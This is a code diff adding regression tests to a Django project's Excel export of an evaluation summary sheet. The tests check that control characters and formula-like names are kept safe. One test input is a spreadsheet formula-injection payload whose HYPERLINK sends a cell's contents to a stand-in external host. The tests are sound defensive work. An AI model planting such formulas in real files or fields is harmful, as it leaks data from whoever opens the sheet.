@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 
 import pytest
+from django.urls import reverse
 from openpyxl import load_workbook
 
 from zhicheng.documents.samples import sample_evaluation_case
@@ -76,3 +77,40 @@ def test_excel_workbook(plan_with_cases):
     assert rows[0][4] == "龙川县城乡建设投资有限公司"
     assert rows[0][6] == "工程师（2018年）"
     assert rows[0][7] == "高级工程师（建筑工程）"
+
+
+def _rename(case, name: str) -> None:
+    """Put ``name`` where the 一览表 reads it: the stored profile version the application was sent with."""
+    from zhicheng.profiles.models import ProfileVersion
+
+    version = case.evaluation_application.profile_version
+    data = {**version.data, "identity": {**version.data.get("identity", {}), "name": name}}
+    ProfileVersion.objects.filter(pk=version.pk).update(data=data)  # stored versions are immutable otherwise
+
+
+@pytest.mark.parametrize("name", ["张\x0b晓明", "张\x00晓\x1f明", "\x0b张晓明\x0c"])
+def test_a_control_character_in_a_name_does_not_break_the_sheet(plan_with_cases, client, cast, name):
+    """Regression: one name with U+000B answered 500 for the whole plan's 一览表 (IllegalCharacterError)."""
+    plan, cases = plan_with_cases
+    _rename(cases[0], name)
+    client.force_login(cast["committee_office"])
+    response = client.get(reverse("documents:summary_sheet_xlsx", args=[plan.pk]))
+    assert response.status_code == 200
+    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming
+                                  else response.content)).active
+    assert ws["B2"].value == "张晓明"
+
+
+@pytest.mark.parametrize("name", [
+    '=HYPERLINK("http://x.example/?"&B2,"张三")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1",
+])
+def test_names_that_look_like_formulas_stay_text(plan_with_cases, name):
+    """Regression: a name starting with = reached the 一览表 as a live formula (openpyxl writes any str
+    starting with "=" as one)."""
+    plan, cases = plan_with_cases
+    _rename(cases[0], name)
+    ws = load_workbook(io.BytesIO(summary_sheet_xlsx(plan=plan))).active
+    cell = ws["B2"]
+    assert cell.data_type == "s" and cell.value == name
+    assert cell.quotePrefix  # Excel keeps it text when the cell is edited
+    assert ws["A2"].data_type == "n"  # numbers stay numbers
